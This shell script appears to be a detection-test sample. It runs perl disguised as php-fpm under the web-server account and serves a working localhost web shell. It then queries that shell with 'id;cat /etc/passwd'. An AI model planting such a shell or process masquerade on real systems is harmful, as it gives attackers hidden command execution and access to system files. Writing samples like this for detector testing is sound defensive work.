# SPDX-License-Identifier: Apache-2.0
#
# A web shell; the PHP process is perl under its name.
play() {
	cp /usr/bin/perl /usr/local/sbin/php-fpm
	setpriv --reuid 33 --regid 33 --clear-groups php-fpm -MIO::Socket::INET -e '
		alarm 10; $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 8080, Listen => 1, ReuseAddr => 1) or die $!;
		$c = $l->accept; $_ = <$c>; ($cmd) = /cmd=(\S+)/; $cmd =~ s/%(..)/chr hex $1/ge;
		print $c "HTTP/1.0 200 OK\r\n\r\n", `$cmd`' &
	while ! grep -q ':1F90 .* 0A ' /proc/net/tcp; do sleep 0.05; done
	curl -s 'http://127.0.0.1:8080/shell.php?cmd=id%3Bcat%20/etc/passwd'
	wait
}

if [ "${SAMPLE:-}" = play ]; then play; else . "$(dirname "$0")/../recipe.sh"; fi
